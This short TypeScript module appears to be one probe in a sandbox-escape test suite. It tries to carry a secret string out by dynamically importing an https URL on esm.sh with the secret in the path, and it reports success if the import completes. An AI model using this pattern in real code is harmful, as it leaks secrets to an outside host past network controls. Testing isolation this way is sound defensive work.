// Carries data out by importing over https.
import { type Target, within } from "../attack.ts";

export const layer = "namespaces";

export default async function (_target: Target): Promise<string | null> {
  await within(5000, import(`https://esm.sh/${"secret-of-the-diary"}`));
  return "imported";
}
